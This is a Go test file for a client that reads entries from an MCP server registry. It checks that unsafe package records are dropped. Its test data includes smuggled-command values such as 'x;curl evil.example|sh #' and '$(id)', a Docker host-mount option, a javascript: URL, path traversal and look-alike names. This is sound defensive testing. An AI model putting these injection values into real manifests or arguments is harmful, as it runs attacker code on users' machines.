package registry

import (
	"encoding/json"
	"fmt"
	"reflect"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"
)

// whole has everything that server.json can hold.
const whole = `{"server":{
 "$schema":"https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json",
 "name":"io.github.a/all","title":"All","description":"All of\nit\u200b","version":"1.2.3-rc.1+b","websiteUrl":"https://a.example/x",
 "repository":{"url":"https://github.com/a/all","source":"github","id":"7","subfolder":"src/all"},
 "packages":[
  {"registryType":"npm","registryBaseUrl":"https://packages.example","identifier":"@a/all","version":"1.2.3","runtimeHint":"npx","transport":{"type":"stdio"},
   "runtimeArguments":[{"type":"named","name":"--node-options","value":"--max-old-space-size={mb}","variables":{"mb":{"default":"512","format":"number"}}}],
   "packageArguments":[{"type":"positional","valueHint":"folder","description":"Where","isRequired":true,"isRepeated":true,"format":"filepath"},{"type":"named","name":"--mode","choices":["a","b"],"default":"a"}],
   "environmentVariables":[{"name":"A_KEY","description":"Key","isRequired":true,"isSecret":true,"placeholder":"k-…"}]},
  {"registryType":"pypi","identifier":"all_server.py","version":"1.2.3","transport":{"type":"stdio"}},
  {"registryType":"oci","identifier":"images.example/a/all:1.2.3","transport":{"type":"streamable-http","url":"http://localhost:{port}/mcp"}},
  {"registryType":"mcpb","identifier":"https://github.com/a/all/releases/download/v1/all.mcpb","fileSha256":"` + sum + `","transport":{"type":"stdio"}},
  {"registryType":"nuget","identifier":"A.All","version":"1.2.3","transport":{"type":"stdio"}}],
 "remotes":[{"type":"streamable-http","url":"https://{tenant}.a.example/mcp","variables":{"tenant":{"isRequired":true,"description":"Yours"}},
   "headers":[{"name":"Authorization","value":"Bearer {token}","variables":{"token":{"isRequired":true,"isSecret":true}}}]},
  {"type":"sse","url":"https://a.example/sse"}]},
 "_meta":{"io.modelcontextprotocol.registry/official":{"status":"active","publishedAt":"2026-10-01T00:00:00Z","updatedAt":"2026-10-02T00:00:00Z","isLatest":true},"other":{"x":1}}}`

const sum = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

func TestWholeServerIsReadAndKept(t *testing.T) {
	s, err := decodeRecord([]byte(whole))
	if err != nil {
		t.Fatal(err)
	}
	if len(s.Packages) != 5 || len(s.Remotes) != 2 || len(s.Dropped) != 0 {
		t.Fatalf("%d packages, %d remotes, dropped %q", len(s.Packages), len(s.Remotes), s.Dropped)
	}
	if s.Description != "All of it" {
		t.Errorf("description %q", s.Description)
	}
	p := &s.Packages[0]
	if e := p.Environment[0]; e.Name != "A_KEY" || !e.Required || !e.Secret {
		t.Errorf("variable %+v", e)
	}
	if a := p.PackageArgs; !a[0].Repeated || a[0].ValueHint != "folder" || len(a[1].Choices) != 2 || a[1].Default != "a" {
		t.Errorf("arguments %+v", a)
	}
	if in := p.RuntimeArgs[0].Variables["mb"]; in.Default != "512" {
		t.Errorf("runtime arguments %+v", p.RuntimeArgs)
	}
	if h := s.Remotes[0].Headers[0]; !h.Variables["token"].Secret || s.Remotes[0].Variables["tenant"].Description != "Yours" {
		t.Errorf("remote %+v", s.Remotes[0])
	}
	raw, err := s.encode()
	if err != nil {
		t.Fatal(err)
	}
	again, err := decodeRecord(raw)
	if err != nil || !reflect.DeepEqual(s, again) {
		t.Errorf("what was kept came back as\n%+v, %v; was\n%+v", again, err, s)
	}
}

// What could be taken for something else than a package is left out, and the
// server stays.
func TestPackagesThatAreLeftOut(t *testing.T) {
	for name, p := range map[string]string{
		"an option":                `{"registryType":"npm","identifier":"--registry=https://evil.example","transport":{"type":"stdio"}}`,
		"a path":                   `{"registryType":"npm","identifier":"../../evil","transport":{"type":"stdio"}}`,
		"a path in a scope":        `{"registryType":"npm","identifier":"@a/../b","transport":{"type":"stdio"}}`,
		"a file":                   `{"registryType":"npm","identifier":"file:///tmp/evil","transport":{"type":"stdio"}}`,
		"a repository":             `{"registryType":"npm","identifier":"git+https://evil.example/x.git","transport":{"type":"stdio"}}`,
		"another package":          `{"registryType":"npm","identifier":"good@npm:evil","transport":{"type":"stdio"}}`,
		"a version in the name":    `{"registryType":"npm","identifier":"@a/b@1.0.0","transport":{"type":"stdio"}}`,
		"two words":                `{"registryType":"npm","identifier":"good evil","transport":{"type":"stdio"}}`,
		"a line feed":              `{"registryType":"npm","identifier":"good\nevil","transport":{"type":"stdio"}}`,
		"a hidden character":       `{"registryType":"nuget","identifier":"good\u200b","transport":{"type":"stdio"}}`,
		"a look-alike":             `{"registryType":"npm","identifier":"@modelcontextprotоcol/x","transport":{"type":"stdio"}}`,
		"nothing":                  `{"registryType":"npm","identifier":"","transport":{"type":"stdio"}}`,
		"extras of Python":         `{"registryType":"pypi","identifier":"good[evil]","transport":{"type":"stdio"}}`,
		"a URL of Python":          `{"registryType":"pypi","identifier":"good @ https://evil.example/x","transport":{"type":"stdio"}}`,
		"an option of Docker":      `{"registryType":"oci","identifier":"-v/:/host","transport":{"type":"stdio"}}`,
		"an image with a path":     `{"registryType":"oci","identifier":"a/../b","transport":{"type":"stdio"}}`,
		"a bundle without hash":    `{"registryType":"mcpb","identifier":"https://a.example/x.mcpb","transport":{"type":"stdio"}}`,
		"a bundle over http":       `{"registryType":"mcpb","identifier":"http://a.example/x.mcpb","fileSha256":"` + sum + `","transport":{"type":"stdio"}}`,
		"a bundle with a password": `{"registryType":"mcpb","identifier":"https://u:p@a.example/x.mcpb","fileSha256":"` + sum + `","transport":{"type":"stdio"}}`,
		"a wrong hash":             `{"registryType":"npm","identifier":"x","fileSha256":"12","transport":{"type":"stdio"}}`,
		"latest":                   `{"registryType":"npm","identifier":"x","version":"latest","transport":{"type":"stdio"}}`,
		"a range":                  `{"registryType":"npm","identifier":"x","version":"^1.0.0","transport":{"type":"stdio"}}`,
		"a runtime with a path":    `{"registryType":"npm","identifier":"x","runtimeHint":"/tmp/evil","transport":{"type":"stdio"}}`,
		"a runtime with arguments": `{"registryType":"npm","identifier":"x","runtimeHint":"bash -c","transport":{"type":"stdio"}}`,
		"another transport":        `{"registryType":"npm","identifier":"x","transport":{"type":"carrier pigeon"}}`,
		"a URL that is none":       `{"registryType":"npm","identifier":"x","transport":{"type":"sse","url":"javascript:alert(1)"}}`,
		"a variable with =":        `{"registryType":"npm","identifier":"x","transport":{"type":"stdio"},"environmentVariables":[{"name":"A=B"}]}`,
		"an argument of no type":   `{"registryType":"npm","identifier":"x","transport":{"type":"stdio"},"packageArguments":[{"value":"x"}]}`,
		"a flag without a name":    `{"registryType":"npm","identifier":"x","transport":{"type":"stdio"},"packageArguments":[{"type":"named","value":"x"}]}`,
		"a flag with a command":    `{"registryType":"npm","identifier":"x","transport":{"type":"stdio"},"packageArguments":[{"type":"named","name":"--x;curl evil.example|sh #"}]}`,
		"a hidden value":           `{"registryType":"npm","identifier":"x","transport":{"type":"stdio"},"packageArguments":[{"type":"positional","value":"x\u202e"}]}`,
		"variables without end":    `{"registryType":"npm","identifier":"x","transport":{"type":"stdio"},"packageArguments":[{"type":"positional","value":"{a}","variables":{"a":{"variables":{"a":{"variables":{"a":{}}}}}}}]}`,
		"too many variables":       `{"registryType":"npm","identifier":"x","transport":{"type":"stdio"},"environmentVariables":[` + strings.TrimSuffix(strings.Repeat(`{"name":"A"},`, 101), ",") + `]}`,
	} {
		t.Run(name, func(t *testing.T) {
			s, err := decodeRecord([]byte(`{"server":{"name":"a.b/c","description":"x","version":"1","packages":[` + p + `,{"registryType":"npm","identifier":"@a/fine","transport":{"type":"stdio"}}]}}`))
			if err != nil {
				t.Fatal(err)
			}
			if len(s.Packages) != 1 || s.Packages[0].Identifier != "@a/fine" || len(s.Dropped) != 1 {
				t.Errorf("packages %+v, dropped %q", s.Packages, s.Dropped)
			}
		})
	}
	for name, r := range map[string]string{
		"stdio": `{"type":"stdio"}`, "no URL": `{"type":"sse"}`, "a file": `{"type":"sse","url":"file:///x"}`,
		"a password": `{"type":"sse","url":"https://u:p@x.example/"}`, "a bad header": `{"type":"sse","url":"https://x.example/","headers":[{"name":"A: B"}]}`,
	} {
		t.Run("remote: "+name, func(t *testing.T) {
			s, err := decodeRecord([]byte(`{"server":{"name":"a.b/c","description":"x","version":"1","remotes":[` + r + `]}}`))
			if err != nil || len(s.Remotes) != 0 || len(s.Dropped) != 1 {
				t.Errorf("%+v, %v", s, err)
			}
		})
	}
}

// Arguments are called in many ways, and by no signs that mean something to a shell.
func TestNamesOfArguments(t *testing.T) {
	for given, want := range map[string]string{
		"folder": "folder", "<dir>": "<dir>", "path/to": "path/to", "--": "--", "-Dkey.[value]": "-Dkey.[value]", "a=b": "a b", "host:port, or @file": "host:port, or @file", "Ордnер": "Ордnер",
		"e.g. \"{path}\"": "e.g. {path}", "a|b": "a b", "x;curl evil.example|sh #": "x curl evil.example sh", "$(id)": "id", "`": "value", "": "", strings.Repeat("long ", 100): strings.TrimSpace(strings.Repeat("long ", 40)),
	} {
		hinted := []Argument{{Type: "positional", ValueHint: given}}
		for range 2 { // as it comes, and out of the cache
			if err := checkArguments(hinted); err != nil || hinted[0].ValueHint != want {
				t.Errorf("%q: %q, %v", given, hinted[0].ValueHint, err)
			}
		}
		named := []Argument{{Type: "named", Name: given}}
		if err := checkArguments(named); (err == nil) != (given == want && given != "" || given == "a=b") {
			t.Errorf("the name %q: %v", given, err)
		}
	}
}

func TestTooManyOfOneServer(t *testing.T) {
	list := strings.TrimSuffix(strings.Repeat(`{"registryType":"npm","identifier":"x","transport":{"type":"stdio"}},`, 60), ",")
	s, err := decodeRecord([]byte(`{"server":{"name":"a.b/c","description":"` + strings.Repeat("long ", 1000) + `","version":"1","packages":[` + list + `]}}`))
	if err != nil || len(s.Packages) != 50 || len(s.Dropped) != 1 || len([]rune(s.Description)) != 1000 {
		t.Errorf("%v; %d packages, dropped %q", err, len(s.Packages), s.Dropped)
	}
}

// What an answer costs once it is decoded is bounded, whatever it consists of.
func TestWhatAnAnswerCosts(t *testing.T) {
	const size, most = 4 << 20, 128 << 20 // bytes
	entry := func(rest string) string {
		return `{"server":{"name":"a.b/c","description":"x","version":"1","packages":[{"registryType":"npm","identifier":"x","transport":{"type":"stdio"}` + rest + `}]}}`
	}
	full := func(what string, room int) string {
		return strings.TrimSuffix(strings.Repeat(what, room/len(what)), ",")
	}
	for name, body := range map[string]string{
		"packages in one entry":   `{"servers":[` + entry("},"+full(`{},`, size)+`,{"a":1`) + `]}`,
		"null in one entry":       `{"servers":[` + entry("},"+full(`null,`, size)+`,{"a":1`) + `]}`,
		"arguments in each entry": `{"servers":[` + full(entry(`,"packageArguments":[`+full(`{},`, 50<<10)+`]`)+",", size) + `]}`,
		"environments":            `{"servers":[` + full(entry(`,"environmentVariables":[`+full(`{"name":"A","variables":{"a":{}}},`, 4<<10)+`]`)+",", size) + `]}`,
	} {
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		p, err := decodePage([]byte(body))
		runtime.ReadMemStats(&after)
		if err != nil || len(p.notes) == 0 {
			t.Errorf("%s: %v, %+v", name, err, p)
		}
		if took := after.TotalAlloc - before.TotalAlloc; took > most {
			t.Errorf("%s: %d MiB cost %d MiB", name, len(body)>>20, took>>20)
		}
	}
}

// What is kept of answers is bounded in bytes, too.
func TestCacheOfLargePages(t *testing.T) {
	now := time.Now()
	c := newCache("", func() time.Time { return now.Add(time.Hour) })
	const pages = 20
	for i := range pages {
		c.put(strconv.Itoa(i), &page{size: maxCacheSize / 10}, "", now.Add(time.Duration(i)))
	}
	if len(c.pages) != 10 || c.pages["19"] == nil || c.pages["10"] == nil {
		t.Errorf("%d of %d pages are kept", len(c.pages), pages)
	}
	c.put("large", &page{size: 2 * maxCacheSize}, "", now.Add(time.Hour))
	if len(c.pages) != 1 || c.pages["large"] == nil {
		t.Errorf("%d pages are kept beside a large one", len(c.pages)-1)
	}
}

func TestBuiltin(t *testing.T) {
	list, err := readBuiltin(builtinFile)
	if err != nil {
		t.Fatal(err)
	}
	if len(list) != 20 {
		t.Errorf("%d servers, want 20", len(list))
	}
	seen := map[string]bool{}
	for i := range list {
		s := &list[i]
		if len(s.Packages) != 1 || s.Packages[0].Identifier != s.Name || len(s.Dropped) > 0 || s.Description == "" || s.Title == "" || seen[s.Name] {
			t.Errorf("%+v", *s)
		}
		seen[s.Name] = true
		if s.Status == Deprecated && s.StatusMessage == "" {
			t.Errorf("%s is deprecated without a word", s.Name)
		}
	}
	Builtin()[0].Name = "changed"
	if Builtin()[0].Name == "changed" {
		t.Error("the list can be changed from outside")
	}
}

func FuzzDecode(f *testing.F) {
	f.Add([]byte(`{"servers":[` + whole + `],"metadata":{"nextCursor":"c","count":1}}`))
	f.Add([]byte(`{"servers":[{"server":{"name":"a.b/c","description":"\u202e","version":"1"}}],"metadata":7}`))
	f.Add([]byte(`<html>`))
	f.Fuzz(func(t *testing.T, body []byte) {
		p, err := decodePage(body)
		if err != nil {
			return
		}
		for i := range p.servers {
			s := &p.servers[i]
			for _, text := range append([]string{s.Name, s.Title, s.Description, s.StatusMessage, s.Version}, s.Dropped...) {
				if strings.ContainsFunc(text, HiddenAlone) {
					t.Fatalf("hidden characters in %q", text)
				}
			}
			for _, p := range s.Packages {
				if strings.HasPrefix(p.Identifier, "-") || strings.Contains(p.Identifier, "..") && strings.Contains("/"+p.Identifier+"/", "/../") {
					t.Fatalf("identifier %q", p.Identifier)
				}
			}
			raw, err := s.encode()
			if err != nil {
				t.Fatal(err)
			}
			again, err := decodeRecord(raw)
			if err != nil {
				t.Fatalf("what was read cannot be read again: %v\n%s", err, raw)
			}
			if a, b := text(t, s), text(t, again); a != b {
				t.Fatalf("kept as\n%s\ncame back as\n%s", a, b)
			}
		}
	})
}

func text(t *testing.T, s *Server) string {
	t.Helper()
	raw, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	return fmt.Sprint(string(raw), s.Status, s.StatusMessage, s.Latest, s.UpdatedAt.UTC(), s.PublishedAt.UTC())
}

// A name that trust would not take for a registry's must not come from one: it
// would count as built in.
func TestNamesThatLookBuiltIn(t *testing.T) {
	for name, good := range map[string]bool{"io.github.user/weather": true, "acme/weather": true, ".evil/x": false, "a..b/x": false, "a./x": false, "@scope/x": false, "plain": false} {
		s := Server{Name: name, Version: "1.0.0"}
		if err := s.check(); (err == nil) != good {
			t.Errorf("%q: %v", name, err)
		}
		if s.IsBuiltin() == good {
			t.Errorf("%q is built in: %v", name, !good)
		}
	}
}

func TestExactVersions(t *testing.T) {
	for _, c := range []struct {
		kind    Kind
		version string
		good    bool
	}{
		{NPM, "1.2.3", true}, {NPM, "1.2.3-rc.1+b", true}, {NPM, "2026.1.26", true},
		{NPM, "1", false}, {NPM, "1.2", false}, {NPM, "latest", false}, {NPM, "next", false}, {NPM, "^1.2.3", false}, {NPM, "1.x", false}, {NPM, "*", false}, {NPM, "", false},
		{PyPI, "1", true}, {PyPI, "1.0", true}, {PyPI, "2026.1.26.post1", true}, {PyPI, ">=1", false}, {PyPI, "1.*", false},
		{"server", "1.0", true}, {"server", "latest", false},
	} {
		if err := ExactVersion(c.kind, "x", c.version); (err == nil) != c.good {
			t.Errorf("%s %q: %v", c.kind, c.version, err)
		}
	}
}

func TestHiddenAlone(t *testing.T) {
	for _, r := range "\x00\n\t\r\u00ad\u034f\u115f\u180b\u180f\u200b\u200c\u200d\u202e\u2028\u2065\u2800\u3164\ue000\ufe0f\ufeff\ufff0\ufffd\U000e0000\U000e0041\U000e0100\U000e0fff" {
		if !HiddenAlone(r) {
			t.Errorf("%U is seen", r)
		}
	}
	for _, r := range " aé東⠓👩\u0301\u00a0" {
		if HiddenAlone(r) {
			t.Errorf("%U is not seen", r)
		}
	}
}
